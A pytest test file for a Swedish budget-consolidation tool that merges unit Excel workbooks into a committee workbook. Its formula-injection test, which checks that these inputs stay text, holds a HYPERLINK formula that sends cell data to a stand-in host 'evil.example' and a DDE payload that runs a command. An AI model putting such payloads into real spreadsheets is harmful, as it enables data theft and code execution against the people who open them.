"""Consolidation end to end: real unit workbooks in an inbox → the nämnd workbook.

Expected nämnd figures are written out by hand below, not computed with the code under test.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import os
import sqlite3
import threading
import time
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from budgetbook.commands import consolidate as cmd
from budgetbook.commands import history as history_cmd
from budgetbook.config import CONFIG_NAME
from budgetbook.consolidate import (CONFLICT, EXCLUDED, INCLUDED, INCLUDED_WITH_ERRORS, MISSING, SEAL_CHANGED,
                                    SEAL_NONE, SEAL_OK)
from budgetbook.excel import read_workbook
from budgetbook.excel.namnd_writer import PROGNOS_SHEET, STATUS_SHEET, TRACE_SHEET
from budgetbook.lock import OutputLock
from budgetbook.spec import MANADER

from .helpers import HEADER, make_workbook

CONFIG = """\
[namnd]
namn = "Socialnämnden"
ar = 2022
belopp_i = "tkr"

[[verksamhet]]
kod = "BOU"
namn = "Barn och unga 0–20 år"

[[verksamhet]]
kod = "VUX"
namn = "Vuxna 21–64 år"

[[verksamhet]]
kod = "MYN"
namn = "Myndighet och huvudmannaskap"

[[enhet]]
kod = "1001"
namn = "Barn och familjeenheten"
kontakt = "anna@kommun.se"
verksamheter = ["BOU", "MYN"]

[[enhet]]
kod = "1002"
namn = "Vuxenenheten"
kontakt = "bertil@kommun.se"
verksamheter = ["VUX", "MYN"]

[[enhet]]
kod = "1003"
namn = "Boendeenheten"
kontakt = "cecilia@kommun.se"
verksamheter = ["VUX"]
"""

BOU, VUX, MYN = "Barn och unga 0–20 år", "Vuxna 21–64 år", "Myndighet och huvudmannaskap"
NAMES = {"1001": "Barn och familjeenheten", "1002": "Vuxenenheten", "1003": "Boendeenheten"}

# (verksamhet, utfall intäkter, utfall kostnader, budget intäkter, budget kostnader, årsbudget netto,
#  prognos netto): ack budget ≈ årsbudget × 8/12, prognos a little better than budget.
UNITS = {
    "1001": [(BOU, 600, -12600, 600, -12600, -18000, -17900), (MYN, 100, -3100, 100, -3100, -4500, -4500)],
    "1002": [(VUX, 300, -6300, 300, -6300, -9000, -8950), (MYN, 0, -1500, 0, -1500, -2250, -2250)],
    "1003": [(VUX, 150, -3150, 150, -3150, -4500, -4480)],
}
# By hand: the nämnd's Ekonomi rows (intäkter, kostnader, budget int, budget kost, årsbudget, prognos).
EXPECTED_EKONOMI = {
    BOU: (600, -12600, 600, -12600, -18000, -17900),
    VUX: (450, -9450, 450, -9450, -13500, -13430),
    MYN: (100, -4600, 100, -4600, -6750, -6750),
}
EKONOMI_INPUTS = ("utfall_intakter", "utfall_kostnader", "budget_intakter", "budget_kostnader",
                  "arsbudget_netto", "prognos_netto")


def months(first: int, upto: int = 8) -> dict:
    """A monthly series jan … the report month: first, first + 1, …"""
    return {m: first + i for i, m in enumerate(MANADER[:upto])}


def unit_content(kod: str, rows=None, scale: int = 1, upto: int = 8, **extra):
    """A consistent unit: Ekonomi rows, Kostnadsslag adding up to the same netto, prognos
    explained per verksamhet, and one row in each listed section."""
    rows = rows if rows is not None else UNITS.get(kod, UNITS["1003"])
    ek = [dict(verksamhet=v, utfall_intakter=ui * scale, utfall_kostnader=uk * scale, budget_intakter=bi,
               budget_kostnader=bk, arsbudget_netto=ab, prognos_netto=pn) for v, ui, uk, bi, bk, ab, pn in rows]
    ui, uk, bi, bk, ab, pn = (sum(r[i] for r in rows if not isinstance(r[i], str)) for i in range(1, 7))
    ui, uk = ui * scale, uk * scale
    intakt_ar = bi * 3 // 2
    fixed = {"kostnadsslag": {
        "forsaljning": dict(utfall=ui, budget=bi, arsbudget=intakt_ar, prognos=intakt_ar),
        "personalkostnader": dict(utfall=uk, budget=bk, arsbudget=ab - intakt_ar, prognos=pn - intakt_ar),
    }}
    orsaker = [dict(verksamhet=v, orsak=f"Lägre kostnader {kod}", belopp=p - a)
               for v, _, _, _, _, a, p in rows if p != a]
    content = {
        "ekonomi": ek,
        "prognosorsaker": orsaker,
        "investeringar": [dict(projektnummer=f"P{kod}", projekt="Gruppbostad", utgifter=-200,
                               projektbudget=-1000, prognos_ar=-400, prognos_kommande=-600)],
        "atgardsplan": [dict(atgard="Minska inhyrd personal", verksamhet=rows[0][0], belopp=300,
                             varav_personal=200, utfall=100, status="Pågår")],
        "indikatorer": [dict(indikator="Andel nöjda", utfall_fg_ar=Decimal("0.8"), utfall=Decimal("0.9"),
                             mal=Decimal("0.9"))],
        "statsbidrag": [dict(bidrag="Stärkt barnhälsa", sokt=500, erhallet=400, prognos=500)],
        "sjukfranvaro": [dict(ansvar=kod, benamning="Alla", total=Decimal("0.05"), kort=Decimal("0.03"),
                              lang=Decimal("0.02"))],
        "statistik": [dict(nyckeltal="Antal placerade barn", ar=2022, summerbar="Ja", **months(2, upto)),
                      dict(nyckeltal="Medelvårdtid", ar=2022, summerbar="Nej", **months(5, upto))],
    }
    content.update(extra)
    return content, fixed


def write_unit(path: Path, kod: str, *, period=(2022, 8), datum=dt.date(2022, 9, 5), rows=None, scale=1,
               header: dict | None = None, sections=None, **extra) -> Path:
    content, fixed = unit_content(kod, rows, scale, upto=period[1], **extra)
    head = dict(HEADER, enhet_kod=kod, enhet_namn=NAMES.get(kod, "X"), ar=period[0], manad=period[1],
                datum=datum, uppgiftslamnare=f"Controller {kod}")
    head.update(header or {})
    make_workbook(path, rows=content, fixed=fixed, header=head, sections=sections)
    return path


@pytest.fixture
def office(tmp_path):
    (tmp_path / CONFIG_NAME).write_text(CONFIG, encoding="utf-8")
    inbox = tmp_path / "inkorg"
    inbox.mkdir()
    return tmp_path, inbox


def full_inbox(inbox: Path) -> None:
    for kod in UNITS:
        write_unit(inbox / f"{kod}.xlsx", kod)


def consolidate(tmp: Path, inbox: Path, period="2022-08", out="namnd.xlsx", **kw) -> tuple[int, Path]:
    output = tmp / out
    opts = dict(include_failing=False, jobs=1, history=None)
    opts.update(kw)
    rc = cmd.run(inbox=inbox, period=period, output=output, config=tmp / CONFIG_NAME, **opts)
    return rc, output


def status_rows(path: Path) -> dict[str, dict]:
    ws = openpyxl.load_workbook(path)[STATUS_SHEET]
    rows = list(ws.iter_rows(values_only=True))
    head = next(i for i, r in enumerate(rows) if r[0] == "Enhet" and r[1] == "Namn")
    names = rows[head]
    out: dict[str, dict] = {}
    for r in rows[head + 1:]:
        if r[0] is None:
            break
        out.setdefault(r[0], []).append(dict(zip(names, r)))
    return out


def status_block(path: Path, title: str) -> list[tuple]:
    rows = list(openpyxl.load_workbook(path)[STATUS_SHEET].iter_rows(values_only=True))
    i = next(i for i, r in enumerate(rows) if r[0] == title)
    out = []
    for r in rows[i + 2:]:
        if r[0] is None:
            break
        out.append(r)
    return out


def ekonomi_rows(path: Path) -> dict[str, dict[str, Decimal]]:
    book = read_workbook(path)
    sec = book.sections["ekonomi"]
    return {r.label: {k: c.value for k, c in r.cells.items()} for r in sec.rows if r.label}


# --- the figures --------------------------------------------------------------------------

def test_namnd_figures_are_the_hand_computed_sums_row_by_row(office):
    tmp, inbox = office
    full_inbox(inbox)
    rc, out = consolidate(tmp, inbox)
    assert rc == 0
    rows = ekonomi_rows(out)
    assert list(rows)[:3] == [BOU, VUX, MYN]  # configuration order
    for name, expected in EXPECTED_EKONOMI.items():
        got = tuple(rows[name][k] for k in EKONOMI_INPUTS)
        assert got == tuple(Decimal(x) for x in expected), name
        # computed cells are formulas in the nämnd workbook; they compute from the sums
        assert rows[name]["utfall_netto"] == Decimal(expected[0] + expected[1])
        assert rows[name]["prognosavvikelse"] == Decimal(expected[5] - expected[4])
    assert rows["Summa"]["prognos_netto"] == Decimal(-17900 - 13430 - 6750)
    assert rows["Summa"]["utfall_kostnader"] == Decimal(-12600 - 9450 - 4600)
    wb = openpyxl.load_workbook(out)
    assert wb["Ekonomi"]["D5"].value.startswith("=")  # live formulas, not typed numbers

    book = read_workbook(out)
    ks = {r.code: r for r in book.sections["kostnadsslag"].rows}
    assert ks["forsaljning"].number("utfall") == 600 + 100 + 300 + 0 + 150
    assert ks["personalkostnader"].number("utfall") == -(12600 + 3100 + 6300 + 1500 + 3150)
    assert ks["forsaljning"].number("arsbudget") == 1050 + 450 + 225
    assert ks["nettoresultat"].number("utfall") == rows["Summa"]["utfall_netto"]

    st = {r.label: r for r in book.sections["statistik"].data_rows()}
    assert st["Antal placerade barn"].number("jan") == 6 and st["Antal placerade barn"].number("feb") == 9
    assert st["Barn och familjeenheten: Medelvårdtid"].number("jan") == 5  # not additive: per unit
    assert "Boendeenheten: Medelvårdtid" in st

    inv = [r.label for r in book.sections["investeringar"].data_rows()]
    assert inv == ["Barn och familjeenheten: Gruppbostad", "Vuxenenheten: Gruppbostad", "Boendeenheten: Gruppbostad"]
    assert book.sections["investeringar"].grand_total().number("utgifter") == -600
    po = [(r.label, r.value("orsak"), r.number("belopp")) for r in book.sections["prognosorsaker"].data_rows()]
    assert po == [(BOU, "Barn och familjeenheten: Lägre kostnader 1001", 100),
                  (VUX, "Vuxenenheten: Lägre kostnader 1002", 50),
                  (VUX, "Boendeenheten: Lägre kostnader 1003", 20)]
    for key in ("atgardsplan", "indikatorer", "statsbidrag", "sjukfranvaro"):
        assert len(book.sections[key].data_rows()) == 3, key
    assert book.header.get("namnd") == "Socialnämnden" and book.header.get("enhet_namn") == "Socialnämnden"
    assert (book.header.year, book.header.month) == (2022, 8)


def test_every_namnd_figure_traces_to_its_unit_cells(office):
    tmp, inbox = office
    full_inbox(inbox)
    rc, out = consolidate(tmp, inbox)
    assert rc == 0
    namnd = read_workbook(out)
    units = {f"{k}.xlsx": read_workbook(inbox / f"{k}.xlsx") for k in UNITS}
    ws = openpyxl.load_workbook(out)[TRACE_SHEET]
    rows = list(ws.iter_rows(values_only=True))
    head = rows[0]
    traced: dict[tuple[str, str], Decimal] = {}
    for r in rows[1:]:
        t = dict(zip(head, r))
        # the unit cell holds exactly the traced value
        unit = units[t["Fil"]]
        cell = next(c for s in unit.sections.values() if s.sheet == t["Enhetens blad"]
                    for row in s.rows for c in row.cells.values() if c.ref == t["Enhetens cell"])
        if isinstance(t["Värde"], (int, float)):
            assert cell.value == Decimal(str(t["Värde"])), t
            key = (t["Nämndens blad"], t["Nämndens cell"])
            traced[key] = traced.get(key, Decimal(0)) + Decimal(str(t["Värde i tkr"]))
        else:
            assert str(cell.value) == str(t["Värde"]), t
    # every number in a nämnd data row traces, and its traces add up to it
    numbers = 0
    for sec in namnd.sections.values():
        for row in sec.data_rows():
            for key, c in row.cells.items():
                if c.number is None:
                    continue
                numbers += 1
                assert (sec.sheet, c.ref) in traced, (sec.key, c.ref, row.label)
                assert traced[(sec.sheet, c.ref)] == c.number, (sec.key, c.ref)
    assert numbers > 60


def test_a_unit_on_two_verksamheter_and_shared_verksamheter(office):
    tmp, inbox = office
    full_inbox(inbox)
    rc, out = consolidate(tmp, inbox)
    ws = openpyxl.load_workbook(out)[TRACE_SHEET]
    head, *rows = list(ws.iter_rows(values_only=True))
    by_cell: dict[str, set] = {}
    for r in rows:
        t = dict(zip(head, r))
        if t["Nämndens blad"] == "Ekonomi" and t["Kolumn"] == "Utfall kostnader":
            by_cell.setdefault(t["Rad"], set()).add(t["Enhet"])
    assert by_cell == {BOU: {"1001"}, VUX: {"1002", "1003"}, MYN: {"1001", "1002"}}


def test_status_sheet_lists_file_hash_submitter_and_seal(office):
    tmp, inbox = office
    full_inbox(inbox)
    rc, out = consolidate(tmp, inbox)
    st = status_rows(out)
    row = st["1002"][0]
    assert row["Fil"] == "1002.xlsx"
    assert row["SHA-256"] == hashlib.sha256((inbox / "1002.xlsx").read_bytes()).hexdigest()
    assert row["Uppgiftslämnare"] == "Controller 1002" and row["Status"] == INCLUDED
    assert row["Fel"] == 0 and row["Sigill"] == SEAL_NONE
    assert status_block(out, "Kontroll av nämndens arbetsbok")[0][0].startswith("Inga avvikelser")


def test_seal_says_validated_unchanged_or_changed(office):
    from budgetbook.engine import validate
    from budgetbook.excel.writeback import write_back_file

    tmp, inbox = office
    full_inbox(inbox)
    for kod in ("1001", "1002"):  # what the Validera button / validate --write-back does
        book = read_workbook(inbox / f"{kod}.xlsx")
        write_back_file(inbox / f"{kod}.xlsx", book, validate(book))
    # 1002 changes a value after validating, keeping the seal it had
    wb = openpyxl.load_workbook(inbox / "1002.xlsx")
    assert wb["Statsbidrag"]["A5"].value == "Stärkt barnhälsa"
    wb["Statsbidrag"]["A5"].value = "Stärkt barnhälsa 2022"
    wb.save(inbox / "1002.xlsx")
    rc, out = consolidate(tmp, inbox)
    st = status_rows(out)
    assert st["1001"][0]["Sigill"] == SEAL_OK
    assert st["1002"][0]["Sigill"] == SEAL_CHANGED
    assert st["1003"][0]["Sigill"] == SEAL_NONE
    # the backups the write-back left in the inbox are not taken for second submissions
    ignored = [r for r in status_block(out, "Filer som inte kunde placeras eller inte lästes") if r[1] == "ignorerad"]
    assert len(ignored) == 2 and all(".före-validering-" in r[0] for r in ignored)
    assert {r["Status"] for rows in st.values() for r in rows} == {INCLUDED}


# --- who is in, who is out ----------------------------------------------------------------

def test_failing_unit_is_left_out_and_listed(office):
    tmp, inbox = office
    full_inbox(inbox)
    write_unit(inbox / "1003.xlsx", "1003", rows=[(VUX, "etthundra", -3150, 150, -3150, -4500, -4480)])
    rc, out = consolidate(tmp, inbox)
    assert rc == 1
    row = status_rows(out)["1003"][0]
    assert row["Status"] == EXCLUDED and row["Fel"] >= 1
    findings = status_block(out, "Fynd per enhet")
    assert any(f[0] == "1003" and f[2] == "IN-002" and f[4] == "Ekonomi!B5" for f in findings)
    rows = ekonomi_rows(out)
    assert rows[VUX]["utfall_kostnader"] == Decimal(-6300)  # 1002 only
    assert rows[VUX]["prognos_netto"] == Decimal(-8950)


def test_include_failing_includes_and_marks_the_unit(office):
    tmp, inbox = office
    full_inbox(inbox)
    write_unit(inbox / "1003.xlsx", "1003", rows=[(VUX, "etthundra", -3150, 150, -3150, -4500, -4480)])
    rc, out = consolidate(tmp, inbox, include_failing=True)
    assert rc == 1  # included, but not without errors
    assert status_rows(out)["1003"][0]["Status"] == INCLUDED_WITH_ERRORS
    rows = ekonomi_rows(out)
    assert rows[VUX]["utfall_kostnader"] == Decimal(-9450)
    assert rows[VUX]["utfall_intakter"] == Decimal(300)  # the unreadable cell adds nothing
    ws = openpyxl.load_workbook(out)[TRACE_SHEET]
    head, *trs = list(ws.iter_rows(values_only=True))
    notes = {dict(zip(head, r))["Anmärkning"] for r in trs if dict(zip(head, r))["Enhet"] == "1003"}
    assert notes == {"enheten har fel"}


def test_missing_unit_is_listed(office):
    tmp, inbox = office
    write_unit(inbox / "1001.xlsx", "1001")
    write_unit(inbox / "1002.xlsx", "1002")
    rc, out = consolidate(tmp, inbox)
    assert rc == 1
    row = status_rows(out)["1003"][0]
    assert row["Status"] == MISSING and row["Fil"] is None
    assert any(f[0] == "1003" and f[2] == "KONS-006" for f in status_block(out, "Fynd per enhet"))
    assert ekonomi_rows(out)[VUX]["utfall_kostnader"] == Decimal(-6300)


def test_duplicate_submission_newer_header_date_wins(office):
    tmp, inbox = office
    full_inbox(inbox)
    write_unit(inbox / "1001 rättad.xlsx", "1001", datum=dt.date(2022, 9, 7),
               rows=[(BOU, 600, -12700, 600, -12600, -18000, -17900), UNITS["1001"][1]])
    rc, out = consolidate(tmp, inbox)
    assert rc == 0
    rows = status_rows(out)["1001"]
    by_file = {r["Fil"]: r for r in rows}
    assert by_file["1001 rättad.xlsx"]["Status"] == INCLUDED
    assert by_file["1001.xlsx"]["Status"] == "ersatt"
    assert "nyare datum i huvudet" in by_file["1001.xlsx"]["Anmärkning"]
    assert ekonomi_rows(out)[BOU]["utfall_kostnader"] == Decimal(-12700)


def test_duplicate_submission_same_date_newer_file_wins_by_mtime(office):
    tmp, inbox = office
    full_inbox(inbox)
    newer = write_unit(inbox / "1001 ny.xlsx", "1001", rows=[(BOU, 600, -12800, 600, -12600, -18000, -17900),
                                                           UNITS["1001"][1]])
    old = time.time() - 3600
    os.utime(inbox / "1001.xlsx", (old, old))
    rc, out = consolidate(tmp, inbox)
    assert rc == 0
    by_file = {r["Fil"]: r for r in status_rows(out)["1001"]}
    assert "filen ändrades senare" in by_file["1001.xlsx"]["Anmärkning"]
    assert ekonomi_rows(out)[BOU]["utfall_kostnader"] == Decimal(-12800)
    assert newer.exists()


def test_duplicate_submission_not_clearly_newer_is_an_error(office):
    tmp, inbox = office
    full_inbox(inbox)
    write_unit(inbox / "1001 kopia.xlsx", "1001", rows=[(BOU, 600, -12800, 600, -12600, -18000, -17900),
                                                        UNITS["1001"][1]])
    now = time.time()
    for name in ("1001.xlsx", "1001 kopia.xlsx"):
        os.utime(inbox / name, (now, now))
    rc, out = consolidate(tmp, inbox)
    assert rc == 1
    assert {r["Status"] for r in status_rows(out)["1001"]} == {CONFLICT}
    assert any(f[2] == "KONS-005" for f in status_block(out, "Fynd per enhet"))
    assert ekonomi_rows(out)[BOU]["utfall_kostnader"] is None


def test_one_file_per_unit_and_section(office):
    tmp, inbox = office
    full_inbox(inbox)
    (inbox / "1001.xlsx").unlink()
    write_unit(inbox / "1001 ekonomi.xlsx", "1001", sections=["ekonomi"])
    write_unit(inbox / "1001 kostnadsslag.xlsx", "1001", sections=["kostnadsslag"])
    rc, out = consolidate(tmp, inbox)
    assert rc == 0
    files = {r["Fil"]: r["Status"] for r in status_rows(out)["1001"]}
    assert files == {"1001 ekonomi.xlsx": INCLUDED, "1001 kostnadsslag.xlsx": INCLUDED}
    book = read_workbook(out)
    assert ekonomi_rows(out)[BOU]["utfall_kostnader"] == Decimal(-12600)
    ks = {r.code: r for r in book.sections["kostnadsslag"].rows}
    assert ks["forsaljning"].number("utfall") == 1150


def test_stray_files_lock_files_and_other_periods_are_listed_not_read(office):
    tmp, inbox = office
    full_inbox(inbox)
    (inbox / "~$1001.xlsx").write_bytes(b"\x00owner")  # Excel's lock file while 1001.xlsx is open
    (inbox / "anteckningar.txt").write_text("ring Bertil", encoding="utf-8")
    (inbox / "gammal.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600)
    write_unit(inbox / "juli.xlsx", "1002", period=(2022, 7))
    write_unit(inbox / "okand.xlsx", "7777")
    before = {p.name: p.read_bytes() for p in inbox.iterdir()}
    rc, out = consolidate(tmp, inbox)
    assert rc == 0  # every expected unit is in, without errors
    lost = {r[0]: r[1] for r in status_block(out, "Filer som inte kunde placeras eller inte lästes")}
    assert lost == {"anteckningar.txt": "KONS-004", "gammal.xls": "KONS-001", "juli.xlsx": "KONS-003",
                    "okand.xlsx": "KONS-002", "~$1001.xlsx": "ignorerad"}
    assert {p.name: p.read_bytes() for p in inbox.iterdir()} == before  # the inbox is never modified


def test_unknown_verksamhet_row_fails_the_unit(office):
    tmp, inbox = office
    full_inbox(inbox)
    write_unit(inbox / "1003.xlsx", "1003", rows=[("Vuxna", 150, -3150, 150, -3150, -4500, -4480)])
    rc, out = consolidate(tmp, inbox)
    assert rc == 1
    assert status_rows(out)["1003"][0]["Status"] == EXCLUDED
    codes = {(f[0], f[2]) for f in status_block(out, "Fynd per enhet")}
    assert ("1003", "KONS-010") in codes or any(c.startswith("IN-02") for u, c in codes if u == "1003")


def test_unit_amounts_in_mnkr_are_converted(office):
    tmp, inbox = office
    full_inbox(inbox)
    write_unit(inbox / "1003.xlsx", "1003", header={"belopp_i": "mnkr"},
               rows=[(VUX, Decimal("0.2"), Decimal("-3.2"), Decimal("0.2"), Decimal("-3.2"), Decimal("-4.8"),
                      Decimal("-4.8"))])
    rc, out = consolidate(tmp, inbox)
    rows = ekonomi_rows(out)
    assert rows[VUX]["utfall_kostnader"] == Decimal(-6300 - 3200)
    assert any(f[0] == "1003" and f[2] == "KONS-013" for f in status_block(out, "Fynd per enhet"))


# --- text stays text ----------------------------------------------------------------------

def test_formula_injection_from_a_unit_stays_text(office):
    tmp, inbox = office
    full_inbox(inbox)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'
    write_unit(inbox / "1001.xlsx", "1001", header={"uppgiftslamnare": "=cmd|' /C calc'!A0"},
               atgardsplan=[dict(atgard="@SUM(A1)", verksamhet=BOU, belopp=300, kommentar=evil)])
    rc, out = consolidate(tmp, inbox)
    wb = openpyxl.load_workbook(out)
    ws = wb["Åtgärdsplan"]
    cells = [c for row in ws.iter_rows() for c in row if c.value == evil]
    assert cells and all(c.data_type == "s" for c in cells)
    st = wb[STATUS_SHEET]
    cells = [c for row in st.iter_rows() for c in row if c.value == "=cmd|' /C calc'!A0"]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not any(isinstance(c.value, str) and "evil" in c.value and c.data_type == "f"
                   for s in wb for row in s.iter_rows() for c in row)


# --- safety -------------------------------------------------------------------------------

def test_a_failed_write_leaves_the_old_output_intact(office, monkeypatch):
    tmp, inbox = office
    full_inbox(inbox)
    rc, out = consolidate(tmp, inbox)
    old = out.read_bytes()
    write_unit(inbox / "1003.xlsx", "1003", rows=[(VUX, 150, -3999, 150, -3150, -4500, -4480)])

    def boom(src, dst):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", boom)
    rc, out = consolidate(tmp, inbox)
    assert rc == 1
    assert out.read_bytes() == old
    assert not [p for p in tmp.iterdir() if p.name.endswith(".tmp")]


def test_a_second_consolidation_of_the_same_output_is_refused_or_waits(office, capsys):
    tmp, inbox = office
    full_inbox(inbox)
    with OutputLock(tmp / "namnd.xlsx"):
        rc, out = consolidate(tmp, inbox)
        assert rc == 2 and not out.exists()
    assert "En annan konsolidering" in capsys.readouterr().err
    lock = OutputLock(tmp / "namnd.xlsx").__enter__()
    threading.Timer(0.5, lock.__exit__).start()
    rc, out = consolidate(tmp, inbox, wait=10)
    assert rc == 0 and out.exists()


def test_usage_and_configuration_errors_exit_2(office):
    tmp, inbox = office
    assert consolidate(tmp, inbox, period="2022-13")[0] == 2
    assert consolidate(tmp, tmp / "finns-inte")[0] == 2
    assert cmd.run(inbox=inbox, period="2022-08", output=inbox / "x.xlsx", config=tmp / CONFIG_NAME,
                   include_failing=False, jobs=1, history=None) == 2  # never write into the inbox
    (tmp / "bad.toml").write_text(CONFIG.replace('["VUX"]', '["NOPE"]'), encoding="utf-8")
    assert cmd.run(inbox=inbox, period="2022-08", output=tmp / "x.xlsx", config=tmp / "bad.toml",
                   include_failing=False, jobs=1, history=None) == 2


def test_jobs_give_the_same_result_as_one_process(office):
    tmp, inbox = office
    full_inbox(inbox)
    write_unit(inbox / "1003.xlsx", "1003", rows=[(VUX, "etthundra", -3150, 150, -3150, -4500, -4480)])
    (inbox / "x.txt").write_text("x")
    rc1, one = consolidate(tmp, inbox, out="one.xlsx", history=tmp / "h1.sqlite")
    rc2, two = consolidate(tmp, inbox, out="two.xlsx", jobs=2, history=tmp / "h2.sqlite")
    assert rc1 == rc2 == 1

    def dump(path):
        wb = openpyxl.load_workbook(path)
        return {ws.title: [[c.value for c in row] for row in ws.iter_rows()]
                for ws in wb if ws.title != STATUS_SHEET} | {
            "status": [[c.value for c in row] for row in wb[STATUS_SHEET].iter_rows(min_row=9)]}
    assert dump(one) == dump(two)

    def stored(db):  # every table, in insertion order, less the run's own time and output name
        con = sqlite3.connect(db)
        tables = [r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")]
        out = {t: con.execute(f"SELECT * FROM {t} ORDER BY rowid").fetchall() for t in tables}
        out["konsolidering"] = con.execute("SELECT namnd, period, inkorg, inkludera_felaktiga, namnd_fel, "
                                           "namnd_varningar FROM konsolidering").fetchall()
        con.close()
        return out
    h1, h2 = stored(tmp / "h1.sqlite"), stored(tmp / "h2.sqlite")
    assert len(h1["enhetsvarde"]) > 100 and h1["fynd"]
    assert h1 == h2


def test_with_jobs_every_batch_is_examined_once_and_put_back_in_file_order(office, monkeypatch):
    from budgetbook.config import load_config
    from budgetbook.period import Period

    tmp, inbox = office
    for i in range(7):
        write_unit(inbox / f"{i}.xlsx", ("1001", "1002", "1003")[i % 3], datum=dt.date(2022, 9, 1 + i))
    cfg = load_config(tmp / CONFIG_NAME)
    files, _, _ = cmd.scan_inbox(inbox, set())
    monkeypatch.setattr(cmd, "BATCH", 1)

    def examined(jobs):
        got = list(cmd._examine_all(files, inbox, Period(2022, 8), cfg, (BOU, VUX, MYN), jobs))
        numbers = [i for i, _ in got]
        assert sorted(numbers) == list(range(len(files)))  # each batch once, whoever took it
        return [u for _, batch in sorted(got, key=lambda b: b[0]) for u in batch]
    one = examined(1)
    assert [u.file for u in one] == [f.name for f in files]
    assert examined(2) == one


def _examine_slowly_or_fail(args):
    """A batch task for the worker test below: notes each batch it is given, fails on the file
    named fail*, takes its time on the others."""
    files, *_ = args
    for path, _label in files:
        Path(path + ".examined").touch()
        if Path(path).name.startswith("fail"):
            raise RuntimeError("a worker's batch failed")
    time.sleep(0.3)
    return []


def test_with_jobs_a_failing_batch_stops_the_batches_no_one_has_begun(office, monkeypatch):
    """A worker's error (and Ctrl-C, and a broken pool, the same way out) is raised without
    the pool first examining every batch still queued: they are cancelled."""
    from budgetbook.config import load_config
    from budgetbook.excel import intake
    from budgetbook.period import Period

    tmp, inbox = office
    write_unit(inbox / "fail.xlsx", "1001")
    for i in range(14):
        (inbox / f"u{i:02d}.xlsx").write_bytes((inbox / "fail.xlsx").read_bytes())
    cfg = load_config(tmp / CONFIG_NAME)
    files, _, _ = cmd.scan_inbox(inbox, set())
    assert files[0].name == "fail.xlsx"
    files = [files[1], files[0], *files[2:]]  # batch 1, the workers' first, fails
    monkeypatch.setattr(cmd, "BATCH", 1)
    monkeypatch.setattr(intake, "examine_batch_task", _examine_slowly_or_fail)
    with pytest.raises(RuntimeError, match="a worker's batch failed"):
        for _ in cmd._examine_all(files, inbox, Period(2022, 8), cfg, (BOU, VUX, MYN), 2):
            pass
    examined = list(inbox.glob("*.examined"))
    # batch 0, the failing one, what the parent took meanwhile and the worker's queue; not all 15
    assert 2 <= len(examined) <= 8, sorted(p.name for p in examined)


_PYTEST_PID = os.getpid()


def _examine_or_die(args):
    """A batch task that kills the worker process running it (as the kernel's OOM killer or
    a crash in a native reader would), and examines in the parent."""
    from budgetbook.excel.intake import examine_batch

    if os.getpid() != _PYTEST_PID:
        os._exit(1)
    return examine_batch(*args)


def test_with_jobs_a_worker_that_dies_is_a_message_not_a_traceback(office, monkeypatch, capsys):
    from budgetbook.excel import intake

    tmp, inbox = office
    full_inbox(inbox)
    monkeypatch.setattr(cmd, "BATCH", 1)
    monkeypatch.setattr(intake, "examine_batch_task", _examine_or_die)
    rc, out = consolidate(tmp, inbox, jobs=2)
    assert rc == 1 and not out.exists()
    said = " ".join(capsys.readouterr().err.split())
    assert "avbröts oväntat" in said and "--jobs" in said and "ingenting skrevs" in said


# --- history ------------------------------------------------------------------------------

def test_second_period_is_checked_against_the_first_through_the_history(office, capsys, monkeypatch):
    tmp, inbox = office
    july = tmp / "juli"
    july.mkdir()
    for kod in UNITS:
        write_unit(july / f"{kod}.xlsx", kod, period=(2022, 7), datum=dt.date(2022, 8, 5))
    rc, _ = consolidate(tmp, july, period="2022-07", out="juli.xlsx")
    assert rc == 0
    # August: 1002's ack kostnader for VUX shrinks from 6 300 to 6 000 (a fall in magnitude,
    # kostnader being negative); 1001's grow, as ack costs should. Prognos for BOU changes.
    write_unit(inbox / "1001.xlsx", "1001", rows=[(BOU, 700, -14000, 600, -12600, -18000, -18200),
                                                  UNITS["1001"][1]])
    write_unit(inbox / "1002.xlsx", "1002", rows=[(VUX, 300, -6000, 300, -6300, -9000, -8950),
                                                  UNITS["1002"][1]])
    write_unit(inbox / "1003.xlsx", "1003")
    rc, out = consolidate(tmp, inbox)
    findings = status_block(out, "Fynd per enhet")
    hist = [f for f in findings if f[2] == "HIST-001"]
    cells = {(f[0], f[4]) for f in hist}
    assert ("1002", "Ekonomi!C5") in cells  # the ekonomi row
    assert ("1002", "Kostnadsslag!B11") in cells  # and the kostnadsslag cost line
    assert not [f for f in hist if f[0] in ("1001", "1003")]
    assert status_rows(out)["1002"][0]["Status"] == INCLUDED  # a warning does not exclude

    ws = openpyxl.load_workbook(out)[PROGNOS_SHEET]
    table = {r[0]: r for r in ws.iter_rows(min_row=5, values_only=True) if r[0]}
    assert table["BOU"][3] == -17900  # July's prognos for BOU
    assert table["BOU"][2] == '=IF(ISNUMBER(Ekonomi!J5),Ekonomi!J5,"")'  # live: August's prognos cell
    assert ekonomi_rows(out)[BOU]["prognos_netto"] == Decimal(-18200)  # so the change is −300
    assert "2022-07" in ws["A2"].value

    # history --enhet lists both periods with their results
    capsys.readouterr()
    monkeypatch.setenv("COLUMNS", "250")
    assert history_cmd.run(enhet="1002", config=tmp / CONFIG_NAME, history=None) == 0
    text = capsys.readouterr().out
    lines = [ln for ln in text.splitlines() if "1002.xlsx" in ln]
    assert len(lines) == 2 and "2022-07" in lines[0] and "2022-08" in lines[1]
    cells = [c.strip() for c in lines[1].split("│")]
    assert all("inkluderad" in ln for ln in lines) and cells[cells.index("inkluderad") + 2] == "2"  # 2 × HIST-001


def test_rerun_replaces_the_period_in_one_transaction(office, monkeypatch):
    tmp, inbox = office
    july = tmp / "juli"
    july.mkdir()
    for kod in UNITS:
        write_unit(july / f"{kod}.xlsx", kod, period=(2022, 7))
    consolidate(tmp, july, period="2022-07", out="juli.xlsx")
    full_inbox(inbox)
    consolidate(tmp, inbox)
    consolidate(tmp, inbox)  # again: replaces August
    db = tmp / "budgetbook-historik.sqlite"
    con = sqlite3.connect(db)
    assert con.execute("SELECT period, COUNT(*) FROM konsolidering GROUP BY period ORDER BY period").fetchall() == [
        ("2022-07", 1), ("2022-08", 1)]
    assert con.execute("SELECT COUNT(*) FROM inlamning").fetchone() == (6,)
